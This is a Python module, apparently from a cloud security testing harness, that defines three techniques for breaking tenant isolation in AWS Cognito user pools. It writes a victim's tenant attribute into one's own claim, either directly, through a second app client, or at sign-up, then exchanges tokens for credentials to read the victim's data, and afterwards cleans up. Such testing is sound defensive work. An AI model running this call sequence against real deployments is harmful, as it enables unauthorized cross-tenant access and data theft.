"""Becoming somebody at the user pool: by writing the claim that tells tenants apart."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.obtained import ByOperator, ObtainedCall
from harness.attacks.technique import Callers, Feature, Severity, Technique
from harness.blueprints.contract import Effect
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from collections.abc import Mapping

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Step
    from harness.secret import Secret

_ATTRIBUTES = "https://docs.aws.amazon.com/cognito/latest/developerguide/user-pool-settings-attributes.html"
# Any password that every sound policy of a pool accepts; the user is deleted again at once.
_PASSWORD = "Newcomer-1-isolation"  # noqa: S105  of users that live for one attempt


def _call(service: str, operation: str, **params: Any) -> ApiRequest:
    return ApiRequest(service, operation, params)


def _attributes(values: Mapping[str, str]) -> list[dict[str, str]]:
    return [{"Name": name, "Value": value} for name, value in values.items()]


def _write(token: Secret, values: Mapping[str, str]) -> ApiRequest:
    return _call(
        "cognito-idp",
        "UpdateUserAttributes",
        AccessToken=token.reveal(),
        UserAttributes=_attributes(values),
    )


def _refresh(aim: Aim) -> ApiRequest:
    return _call(
        "cognito-idp",
        "InitiateAuth",
        AuthFlow="REFRESH_TOKEN_AUTH",
        ClientId=aim.users_client,
        AuthParameters={"REFRESH_TOKEN": aim.refresh_token.reveal()},
    )


def _logins(aim: Aim, answer: Mapping[str, Any]) -> dict[str, str]:
    return {aim.deployment.provider: answer["AuthenticationResult"]["IdToken"]}


def _elsewhere(aim: Aim) -> Secret:
    return aim.tokens.access_token_elsewhere(aim.caller)


def _rewritten(aim: Aim, token: Secret, values: Mapping[str, str]) -> tuple[Step, ...]:
    """Return the steps that write attributes, take new tokens, exchange them and use the session on the aim."""
    return (
        _write(token, values),
        lambda _: _refresh(aim),
        lambda answer: _call(
            "cognito-identity",
            "GetCredentialsForIdentity",
            IdentityId=aim.caller.identity_id,
            Logins=_logins(aim, answer),
        ),
        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
    )


def _newcomer(aim: Aim) -> str:
    return f"newcomer.of.{aim.caller.username}"


def _signed_up(aim: Aim, claims: Mapping[str, str]) -> tuple[Step, ...]:
    """Return the steps by which somebody new signs up with the claims, and uses what comes of it on the aim."""
    username = _newcomer(aim)
    pool = aim.deployment.user_pool
    asked: dict[str, str] = {}

    def identify(answer: Mapping[str, Any]) -> ApiRequest:
        asked.update(_logins(aim, answer))
        return _call("cognito-identity", "GetId", IdentityPoolId=aim.deployment.identity_pool, Logins=dict(asked))

    return (
        _call(
            "cognito-idp",
            "SignUp",
            ClientId=aim.users_client,
            Username=username,
            Password=_PASSWORD,
            UserAttributes=_attributes({"email": "newcomer@example.com", **claims}),
        ),
        # In place of the link in the newcomer's own mail.
        ByOperator(_call("cognito-idp", "AdminConfirmSignUp", UserPoolId=pool, Username=username)),
        lambda _: _call(
            "cognito-idp",
            "InitiateAuth",
            AuthFlow="USER_PASSWORD_AUTH",
            ClientId=aim.users_client,
            AuthParameters={"USERNAME": username, "PASSWORD": _PASSWORD},
        ),
        identify,
        lambda answer: _call(
            "cognito-identity", "GetCredentialsForIdentity", IdentityId=answer["IdentityId"], Logins=dict(asked)
        ),
        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
    )


def _forget_newcomer(aim: Aim) -> tuple[ApiRequest, ...]:
    pool = aim.deployment.user_pool
    return (_call("cognito-idp", "AdminDeleteUser", UserPoolId=pool, Username=_newcomer(aim)),)


def _own_claims_again(aim: Aim) -> tuple[ApiRequest, ...]:
    # What the attack has added is deleted, what it has changed gets its value back.
    params = {"UserPoolId": aim.deployment.user_pool, "Username": aim.caller.username}
    added = [name for name in aim.victims_attributes if name not in aim.own_attributes]
    deleting = [_call("cognito-idp", "AdminDeleteUserAttributes", **params, UserAttributeNames=added)] if added else []
    own = _attributes(aim.own_attributes)
    writing = [_call("cognito-idp", "AdminUpdateUserAttributes", **params, UserAttributes=own)] if own else []
    return (*deleting, *writing)


_CLAIM = partial(
    Technique,
    plane="user-pool",
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    documentation=_ATTRIBUTES,
    cwe=("CWE-639", "CWE-915"),
    callers=Callers.MEMBERS,
    victims=Callers.OWNERS,
    actions=("dynamodb:GetItem", "s3:GetObject"),
    refusals=(r"unauthorized attribute", r"Attribute cannot be updated"),
    first_step_decides=True,
)

TECHNIQUES = (
    _CLAIM(
        id="user-pool.session.rewrite-tenant-claim",
        title="writing the victim's tenant into one's own claim, then exchanging a new token",
        operation="UpdateUserAttributes",
        catalogue=(
            "up-tenant-attr-client-writable",
            "up-empty-writeattributes-default",
            "idp-rule-mapping-mutable-claim",
        ),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM}),
        steps=lambda aim: _rewritten(aim, aim.access_token, aim.victims_attributes),
        control_steps=lambda aim: _rewritten(aim, aim.access_token, {"name": "somebody"})[:-1],
        clean_up=_own_claims_again,
    ),
    _CLAIM(
        id="user-pool.session.rewrite-claim-elsewhere",
        title="the same through another app client, the new token from the users' own",
        operation="UpdateUserAttributes",
        catalogue=("x-second-app-client-or-environment", "idp-principal-tag-from-mutable-claim"),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM, Feature.SECOND_APP_CLIENT}),
        steps=lambda aim: _rewritten(aim, _elsewhere(aim), aim.victims_attributes),
        control_steps=lambda aim: _rewritten(aim, _elsewhere(aim), {"name": "somebody"})[:-1],
        clean_up=_own_claims_again,
    ),
    _CLAIM(
        id="user-pool.session.claim-at-sign-up",
        title="signing up with the victim's tenant in the claim",
        operation="SignUp",
        catalogue=("up-tenant-attr-set-at-signup", "up-self-signup-into-trusted-pool"),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM, Feature.SIGN_UP}),
        steps=lambda aim: _signed_up(aim, aim.victims_attributes),
        control_steps=lambda aim: _signed_up(aim, {})[:-1],
        clean_up=_forget_newcomer,
    ),
)
